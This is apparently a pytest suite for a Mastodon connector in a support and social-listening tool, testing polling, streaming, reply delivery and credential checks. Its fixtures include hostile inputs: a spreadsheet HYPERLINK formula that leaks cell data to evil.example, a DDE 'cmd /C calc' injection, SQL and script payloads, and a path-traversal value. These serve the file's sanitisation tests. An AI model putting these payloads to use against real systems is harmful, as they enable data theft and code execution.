"""Mastodon through the contract suite, plus what only Mastodon has."""

from __future__ import annotations

import copy
import json
import threading
import time
from datetime import timedelta
from pathlib import Path

import pytest

from panal.channels import intake, replies
from panal.channels.base import AuthFailed, Rejected, Unavailable, connector_for
from panal.channels.mastodon import wire
from panal.channels.models import OutboundMessage
from panal.channels.runner import AccountRunner, poll_once
from panal.core import clock
from panal.demo import builders
from panal.listening.models import Mention
from tests.fakes.mastodon import PUBLIC, FakeMastodon

from .contract import Contract, Harness, Sample, stored

FIXTURES = Path(__file__).resolve().parents[2] / "src/panal/channels/mastodon/fixtures"
TOKEN = "masto-token-0123456789abcdef"
SAMPLES = [
    "notification__es.json", "notification__en.json", "notification__hostile.json",
    "notification__rtl.json", "status__tag_emoji.json", "notification__long.json",
    "status__tag_he.json",
]  # fmt: skip
# The plain text each fixture's HTML `content` must be stored as.
TEXTS = {
    "notification__es.json": "@acme_soporte llevo dos días sin señal en Sevilla 😤 ¿me ayudáis? "
    "Más info: https://estado.acme.example/incidencias/4512 #acme",
    "notification__en.json": "@acme_soporte my router keeps dropping the connection every "
    "evening since the update. Already restarted it twice.\n\nAny idea?",
    "notification__hostile.json": '@acme_soporte =HYPERLINK("http://evil.example/?leak="&A1,'
    '"clic") <b>negrita</b> pulsa aquí\n\n\' OR 1=1 -- fin',
    "notification__rtl.json": "@acme_soporte مرحبا، لم تصلني فاتورة شهر نوفمبر بعد. "
    "رقم العميل ٤٥١٢ 🙏",
    "status__tag_emoji.json": "Por fin fibra en el pueblo 👩\u200d👩\u200d👧\u200d👦🎉 gracias "
    "#acme 👍🏽🇪🇸🇲🇽 ❤️",
    "notification__long.json": "@acme_soporte llevo desde el lunes intentando dar de baja la "
    "línea de mi madre y nadie me da una respuesta clara. Primero me dijeron que era por "
    "teléfono, luego que en tienda, y en la tienda que por la web.\n\nEn la web el formulario "
    "da error al enviar (adjunto captura). Mientras tanto os seguís cobrando la cuota y ella "
    "vive de una pensión pequeña. Necesito que alguien me diga hoy mismo qué hay que hacer y "
    "que se devuelva lo cobrado de más. Gracias y perdón por la chapa.\n\nUn saludo.",
    "status__tag_he.json": "שלום #acme, החבילה לא הגיעה. אפשר לבדוק? תודה!",
}
FOLLOWED = "109500000000000202"  # the author of notification__en.json: we follow them


def load(name: str) -> dict:
    return json.loads((FIXTURES / name).read_text("utf-8"))


def status_of(data: dict) -> dict:
    return data["status"] if data.get("type") == "mention" else data


class MastodonHarness(Harness):
    kind = "mastodon"
    settings: dict = {"hashtags": ["acme"]}

    def start(self):
        self.me = load("account__verify_credentials.json")
        self.fake = FakeMastodon(TOKEN, self.me).start()
        self.fake.following.add(FOLLOWED)
        self.account = builders.channel_account(
            self.org, kind="mastodon", slug="acme-masto", name="Acme en Mastodon", secrets=[]
        )
        self.account.settings = {"base_url": self.fake.base_url, **self.settings}
        self.account.credentials = {"access_token": TOKEN}
        # What `panal channels check` stores from verify_credentials.
        self.account.self_ids = [self.me["id"]]
        self.account.handle = self.me["acct"]
        self.account.save()

    def stop(self):
        self.fake.stop()

    def sample(self, name: str) -> Sample:
        data = load(name)
        status = status_of(data)
        parent = status["in_reply_to_id"] or ""
        return Sample(
            external_id=status["id"],
            text=TEXTS[name],
            author_handle=status["account"]["acct"],
            author_external_id=status["account"]["id"],
            thread_external_id=parent or status["id"],
            in_reply_to_external_id=parent,
            lang=status["language"] or "",
            data=data,
        )

    def samples(self):
        return [self.sample(name) for name in SAMPLES]

    def publish(self, sample, event="created", *, new_text=""):
        if event == "created":
            if sample.data.get("type") == "mention":
                self.fake.mention(sample.data["status"])
            else:
                self.fake.post(sample.data)
        elif event == "edited":
            self.fake.edit(sample.external_id, new_text)
        else:
            self.fake.delete(sample.external_id)

    def collect(self):
        """One streaming session as `panal listen` runs it: catch up by polling, then the
        events the fake holds; the fake hangs up when it has nothing more to say."""
        self.account.refresh_from_db()
        runner = AccountRunner(self.account.pk, threading.Event())
        runner.follow(connector_for("mastodon"), self.account)

    def redeliver(self):
        self.fake.redeliver()

    def replies_received(self):
        out = []
        for posted in self.fake.posted:
            payload = posted["payload"]
            parent = self.fake.statuses.get(payload.get("in_reply_to_id"), {})
            prefix = "@" + parent.get("account", {}).get("acct", "") + " "
            text = payload["status"]
            out.append(
                {
                    "text": text[len(prefix) :] if text.startswith(prefix) else text,
                    "in_reply_to": payload.get("in_reply_to_id"),
                    "payload": payload,
                    "key": posted["key"],
                }
            )
        return out

    def echo_replies(self):
        # Our replies come back on our home stream and, carrying the hashtag we listen
        # to, on its timeline and its stream.
        for posted in self.fake.posted:
            self.fake.tag(posted["status"]["id"], "acme")

    def rate_limit_next(self, seconds):
        self.fake.rate_limit_next(seconds)

    def cursor_sent(self):
        sent = self.fake.seen("GET", r"^/api/v1/notifications$")
        return sent[-1].arg("min_id") if sent else None


class TestMastodon(Contract):
    harness = MastodonHarness


class PollingHarness(MastodonHarness):
    settings = {"hashtags": ["acme"], "stream": False, "page_size": 2}


@pytest.fixture
def h(org, users):
    harness = MastodonHarness(org)
    harness.start()
    harness.users = users
    try:
        yield harness
    finally:
        harness.stop()


@pytest.fixture
def polling(org, users):
    harness = PollingHarness(org)
    harness.start()
    harness.users = users
    try:
        yield harness
    finally:
        harness.stop()


def mention_copy(h, name: str, number: int) -> dict:
    """A fresh mention built from a fixture, with its own status id."""
    data = copy.deepcopy(load(name))
    data["status"]["id"] = str(113520000000000000 + number)
    return data["status"]


def notifications_sent(h) -> list:
    return h.fake.seen("GET", r"^/api/v1/notifications$")


# -- polling ---------------------------------------------------------------------------


def test_link_header_pagination_across_three_pages(polling):
    h = polling
    h.fake.mention(mention_copy(h, "notification__es.json", 0))
    poll_once(h.account)
    first = intake.load_cursor(h.account)
    assert first["notifications"] == "40001" and first["tag:acme"] == "113520000000000000"
    for n in range(1, 6):
        h.fake.mention(mention_copy(h, "notification__en.json", n))
    before = len(notifications_sent(h))
    h.account.refresh_from_db()
    poll_once(h.account)
    pages = notifications_sent(h)[before:]
    # Three pages forwards from the stored cursor, each from the last one's rel="prev".
    assert [r.arg("min_id") for r in pages] == ["40001", "40003", "40005"]
    assert {r.arg("limit") for r in pages} == {"2"}
    assert all(r.query["types[]"] == ["mention"] for r in pages)
    assert intake.load_cursor(h.account)["notifications"] == "40006"
    ids = sorted(Mention.objects.filter(account=h.account).values_list("external_id", flat=True))
    assert ids == [str(113520000000000000 + n) for n in range(6)]
    # Polling again asks from the newest id and finds nothing.
    h.account.refresh_from_db()
    assert poll_once(h.account) == 0
    assert notifications_sent(h)[-1].arg("min_id") == "40006"


def test_a_restart_between_pages_skips_nothing_and_stores_nothing_twice(polling):
    h = polling
    h.fake.mention(mention_copy(h, "notification__es.json", 0))
    poll_once(h.account)
    for n in range(1, 6):
        h.fake.mention(mention_copy(h, "notification__en.json", n))
    connector = connector_for("mastodon")
    http = connector.make_http(h.account)
    try:  # one page is read and stored, then the process dies
        page = connector.poll(h.account, http, intake.load_cursor(h.account))
        intake.accept(h.account, page, cursor=page.cursor)
    finally:
        http.close()
    assert page.more and page.cursor["behind"] == ["notifications"]
    h.account.refresh_from_db()
    poll_once(h.account)  # after the restart: only the stored cursor carries over
    ids = list(Mention.objects.filter(account=h.account).values_list("external_id", flat=True))
    assert sorted(ids) == [str(113520000000000000 + n) for n in range(6)]
    assert [r.arg("min_id") for r in notifications_sent(h)[-3:]] == ["40001", "40003", "40005"]


def test_hashtag_timelines_are_polled_with_their_own_cursor(polling):
    h = polling
    emoji = h.sample("status__tag_emoji.json")
    h.publish(emoji)
    poll_once(h.account)
    assert intake.load_cursor(h.account)["tag:acme"] == emoji.external_id
    hebrew = h.sample("status__tag_he.json")
    h.publish(hebrew)
    h.account.refresh_from_db()
    poll_once(h.account)
    sent = h.fake.seen("GET", r"^/api/v1/timelines/tag/acme$")
    assert sent[-1].arg("min_id") == emoji.external_id
    post = stored(h.account, hebrew.external_id)
    assert (post.kind, post.lang, post.text) == ("post", "he", TEXTS["status__tag_he.json"])


def test_only_mentions_are_taken_and_boosts_are_not_their_boosters(h):
    booster = load("status__boost.json")
    h.fake.following.add(booster["account"]["id"])
    h.fake.post(booster)  # reaches our home stream as an `update` with a `reblog`
    h.fake.notify("favourite", booster["account"], status_of(load("notification__en.json")))
    h.fake.notify("follow", booster["account"])
    h.collect()
    assert not Mention.objects.filter(account=h.account).exists()
    assert all(r.query.get("types[]") == ["mention"] for r in notifications_sent(h))


# -- what an item holds ----------------------------------------------------------------


def test_fields_of_statuses(h):
    for sample in h.samples():
        h.publish(sample)
    h.collect()
    es = stored(h.account, "113510000000000101")
    assert (es.kind, es.visibility, es.reply_capability) == ("mention", "public", "public_reply")
    assert es.urls == ["https://estado.acme.example/incidencias/4512"]
    assert es.url == "https://mastodon.example/@lucia_v/113510000000000101"
    assert (es.author_display_name, es.author_followers, es.author_is_bot) == (
        "Lucía Vega 🌻",
        312,
        False,
    )
    assert es.author_avatar_url.startswith("https://files.mastodon.example/")
    assert es.author_description == "Sevilla · café · bicis"
    assert es.metrics == {"replies": 1, "reposts": 2, "likes": 5}
    assert es.created_at.isoformat() == "2026-11-20T09:15:02+00:00"
    en = stored(h.account, "113510000000000202")
    assert (en.kind, en.visibility, en.lang) == ("reply", "unlisted", "en")
    assert en.in_reply_to_external_id == en.thread_external_id == "113509000000000001"
    dm = stored(h.account, "113510000000000404")
    assert (dm.kind, dm.visibility, dm.reply_capability) == (
        "direct_message",
        "private",
        "private_reply",
    )
    post = stored(h.account, "113510000000000505")
    assert post.kind == "post" and post.author_handle == "tienda_paqui@social.example"
    assert post.media[0]["alt"] == "Router nuevo en la mesa de la cocina"
    assert post.raw["via"] in ("tag:acme", "stream:tag:acme")


def test_hostile_markup_is_stored_as_plain_text(h):
    sample = h.sample("notification__hostile.json")
    h.publish(sample)
    h.collect()
    mention = stored(h.account, sample.external_id)
    assert mention.text == TEXTS["notification__hostile.json"]
    for gone in ("alert(document.cookie)", "onerror", "<img", "<iframe", "display:none", "<p>"):
        assert gone not in mention.text
    assert mention.text_html == sample.data["status"]["content"]  # kept, never rendered
    assert mention.title == "=cmd|' /C calc'!A0"  # the content warning, as plain text
    assert (
        mention.author_display_name
        == '<script>alert("x")</script> =HYPERLINK("http://evil.example")'
    )
    assert mention.urls == []  # the javascript: link is not a link
    assert mention.author_description == "bio"


# -- streaming -------------------------------------------------------------------------


def test_event_decoder_reads_server_sent_events():
    decoder = wire.EventDecoder()
    lines = [
        ":)", ":thump", "event: update", 'data: {"id":', 'data:"1"}', "id: 7", "retry: 10",
        "", "", ":thump", "event: filters_changed", "", "event: delete", "data: 42", "",
        "event: update", "data: {half",
    ]  # fmt: skip
    events = [e for e in map(decoder.feed, lines) if e is not None]
    assert events == [wire.Event("update", '{"id":\n"1"}'), wire.Event("delete", "42")]


def test_a_dropped_stream_is_resumed_from_the_cursor(h):
    """Live stream with heartbeats, dropped mid-event; the next session catches up."""
    h.fake.buffer_when_closed = False  # what is emitted while we are away is lost
    h.fake.hang_up_when_idle = False
    h.fake.heartbeat = 0.01
    hostile, en = h.sample("notification__hostile.json"), h.sample("notification__en.json")
    rtl, long = h.sample("notification__rtl.json"), h.sample("notification__long.json")
    h.publish(hostile)  # before we connect: only polling can find it

    def network():
        assert h.fake.wait_for_listener("user") and h.fake.wait_for_listener("hashtag:acme")
        h.fake.send_raw("user", b":thump\n:thump\n")
        h.publish(en)
        h.fake.send_raw("user", b"event: update\ndata: not json\n\n")
        h.fake.send_raw("user", b"event: delete\r\ndata: 113510000000000303\r\n\r\n:thump\r\n")
        h.fake.send_raw("user", b'event: update\ndata: {"id": "1135')  # cut off here
        h.fake.drop_streams()

    side = threading.Thread(target=network, daemon=True)
    side.start()
    runner = AccountRunner(h.account.pk, threading.Event())
    with pytest.raises(Unavailable, match="dropped"):
        runner.follow(connector_for("mastodon"), h.account)
    side.join(5)
    assert stored(h.account, en.external_id).text == en.text
    assert stored(h.account, hostile.external_id).deleted_at is not None  # the CRLF delete
    h.account.refresh_from_db()
    assert h.account.health == "degraded"
    cursor = intake.load_cursor(h.account)["notifications"]
    assert cursor in ("40001", "40002")  # polls move it; streamed events do not

    h.publish(rtl)  # while nobody listens: the stream events are lost,
    h.publish(long)  # the notifications are not
    h.fake.hang_up_when_idle = True
    h.collect()
    assert notifications_sent(h)[-1].arg("min_id") == cursor
    assert intake.load_cursor(h.account)["notifications"] == "40004"
    ids = list(Mention.objects.filter(account=h.account).values_list("external_id", flat=True))
    assert sorted(ids) == sorted(s.external_id for s in (hostile, en, rtl, long))
    assert h.fake.connections["user"] == 2


def test_a_poll_while_streaming_finds_what_the_stream_lost(h):
    h.fake.hang_up_when_idle = False
    h.account.settings["poll_interval"] = 1.0
    h.account.save()
    connector = connector_for("mastodon")
    stop = threading.Event()
    lost = h.sample("notification__long.json")

    def network():
        h.fake.wait_for_listener("hashtag:acme")
        for _ in range(500):  # until the catch-up poll is done
            if notifications_sent(h):
                break
            time.sleep(0.01)
        # A mention whose stream event the server never sent (only its notification).
        h.fake.notify("mention", lost.data["account"], lost.data["status"])

    side = threading.Thread(target=network, daemon=True)
    side.start()
    http = connector.make_http(h.account)
    found = []
    try:
        for page in connector.stream(h.account, http, {}, stop):
            intake.accept(h.account, page, cursor=page.cursor or None)
            found += [i.external_id for i in page.items]
            if lost.external_id in found:
                stop.set()
    finally:
        http.close()
    side.join(5)
    assert stored(h.account, lost.external_id).text == lost.text
    assert len(notifications_sent(h)) == 2  # the catch-up, then the periodic poll


def test_a_bad_event_is_reported_and_the_rest_kept(h):
    connector = connector_for("mastodon")
    en = h.sample("notification__en.json")
    h.fake.send_raw("user", b"event: notification\ndata: [1, 2]\n\n")
    h.fake.send_raw("user", b"event: delete\ndata: ../../etc\n\n")
    h.publish(en)
    http = connector.make_http(h.account)
    try:
        pages = list(connector.stream(h.account, http, {}, threading.Event()))
    finally:
        http.close()
    errors = [e for p in pages for e in p.errors]
    assert len(errors) == 2 and "not a JSON object" in errors[0] and "numeric" in errors[1]
    assert en.external_id in {i.external_id for p in pages for i in p.items}


def test_the_stream_stops_promptly_when_asked(h):
    h.fake.hang_up_when_idle = False
    connector = connector_for("mastodon")
    stop, seen = threading.Event(), threading.Event()

    def network():
        h.fake.wait_for_listener("hashtag:acme")
        h.publish(h.sample("notification__en.json"))
        seen.wait(5)
        stop.set()  # while the stream waits for the next event

    side = threading.Thread(target=network, daemon=True)
    side.start()
    http = connector.make_http(h.account)
    try:
        for page in connector.stream(h.account, http, {}, stop):
            if any(i.external_id == "113510000000000202" for i in page.items):
                seen.set()
    finally:
        http.close()
    side.join(5)
    assert seen.is_set()
    with h.fake.cond:  # our side hung up: the fake's streams notice and end
        assert h.fake.cond.wait_for(lambda: not any(h.fake.listeners.values()), 5)


def test_the_streaming_server_is_asked_from_the_instance(h):
    h.collect()
    assert h.fake.seen("GET", r"^/api/v2/instance$")
    h.account.settings["streaming_url"] = h.fake.base_url + "/"
    h.account.save()
    before = len(h.fake.seen("GET", r"^/api/v2/instance$"))
    h.collect()
    assert len(h.fake.seen("GET", r"^/api/v2/instance$")) == before
    assert h.fake.connections["user"] == 2


# -- replies ---------------------------------------------------------------------------


def reply(h, sample, text="¡Gracias! Lo revisamos hoy mismo."):
    h.publish(sample)
    h.collect()
    mention = stored(h.account, sample.external_id)
    message = replies.send_reply(h.users["agent"], mention, text)
    replies.deliver(message.pk)
    message.refresh_from_db()
    return message


def test_a_reply_names_its_author_and_mirrors_a_direct_message(h):
    rtl = h.sample("notification__rtl.json")
    message = reply(h, rtl, "شكرا، سنرسلها اليوم")
    assert message.status == OutboundMessage.Status.SENT, message.error
    (sent,) = h.replies_received()
    assert sent["payload"] == {
        "status": "@amira@toot.example شكرا، سنرسلها اليوم",
        "in_reply_to_id": rtl.external_id,
        "visibility": "direct",
        "language": "ar",
    }
    assert sent["key"] == str(message.pk)
    assert message.url == f"{PUBLIC}/@acme_soporte/{message.external_id}"
    en = h.sample("notification__en.json")
    reply(h, en, "@mike_h@social.example we are on it.")
    assert h.replies_received()[1]["payload"]["status"] == "@mike_h@social.example we are on it."
    assert h.replies_received()[1]["payload"]["visibility"] == "unlisted"


def test_a_retried_reply_keeps_its_idempotency_key_and_posts_once(h):
    sample = h.sample("notification__es.json")
    h.fake.lose_next_answer = True  # created, but the answer is lost on the way
    message = reply(h, sample)
    assert message.status == OutboundMessage.Status.QUEUED and "504" in message.error
    message.next_attempt_at = clock.now() - timedelta(seconds=1)
    message.save(update_fields=["next_attempt_at"])
    replies.deliver(message.pk)
    message.refresh_from_db()
    assert message.status == OutboundMessage.Status.SENT, message.error
    posts = h.fake.seen("POST", r"^/api/v1/statuses$")
    assert [p.headers["idempotency-key"] for p in posts] == [str(message.pk)] * 2
    assert len(h.fake.posted) == 1
    assert message.external_id == h.fake.posted[0]["status"]["id"]
    # The reply coming back (home stream, hashtag timeline) is not a mention.
    count = Mention.objects.filter(account=h.account).count()
    h.echo_replies()
    h.collect()
    assert Mention.objects.filter(account=h.account).count() == count


def test_a_reply_too_long_with_the_mention_in_front_is_refused(h):
    h.account.settings["max_characters"] = 60
    h.account.save()
    sample = h.sample("notification__es.json")
    h.publish(sample)
    h.collect()
    mention = stored(h.account, sample.external_id)
    # 55 characters, 64 with "@lucia_v " in front: refused before anything is queued.
    with pytest.raises(replies.ReplyRefused, match="64 long; Mastodon takes at most 60"):
        replies.send_reply(h.users["agent"], mention, "x" * 55)
    assert replies.refusal(mention, "x" * 51) is None
    # The connector checks again when it sends (the limit may change in between).
    connector = connector_for("mastodon")
    http = connector.make_http(h.account)
    try:
        with pytest.raises(Rejected, match="@lucia_v"):
            connector.send_reply(h.account, http, mention, "x" * 55, "key-1")
    finally:
        http.close()
    assert not h.fake.posted


def test_reply_length_counts_as_mastodon_does():
    connector = connector_for("mastodon")
    assert connector.reply_length("ver https://acme.example/" + "a" * 200) == 4 + 23
    assert connector.reply_length("@ana@social.example hola") == len("@ana hola")
    assert connector.reply_length("👩\u200d👩\u200d👧\u200d👦🇪🇸👍🏽❤️e\u0301") == 5
    assert wire.addressed("hola", "ana@social.example") == "@ana@social.example hola"
    assert wire.addressed("hola @Ana@social.example", "ana@social.example").startswith("hola")
    assert wire.addressed("hola @ana@otro.example", "ana") == "@ana hola @ana@otro.example"
    assert wire.addressed("hola", "<script>") == "hola"


# -- credentials -----------------------------------------------------------------------


def test_check_reads_our_handle_and_id_and_a_bad_token_disconnects(h):
    connector = connector_for("mastodon")
    http = connector.make_http(h.account)
    try:
        found = connector.check(h.account, http)
    finally:
        http.close()
    assert (found.handle, found.self_ids) == ("acme_soporte", ("109412340000000001",))
    h.account.credentials = {"access_token": "revoked"}
    h.account.save()
    runner = AccountRunner(h.account.pk, threading.Event())
    with pytest.raises(AuthFailed, match="The access token is invalid"):
        runner.follow(connector_for("mastodon"), h.account)
    h.account.refresh_from_db()
    assert h.account.health == "disconnected"


def test_a_direct_message_whose_author_cannot_be_named_is_not_answered(h):
    rtl = h.sample("notification__rtl.json")
    h.publish(rtl)
    h.collect()
    mention = stored(h.account, rtl.external_id)
    assert replies.refusal(mention, "hola") is None
    mention.raw["status"]["account"]["acct"] = "amira@<b>"
    mention.author_handle = ""
    mention.save(update_fields=["raw", "author_handle"])
    assert "cannot be named" in replies.refusal(mention, "hola")
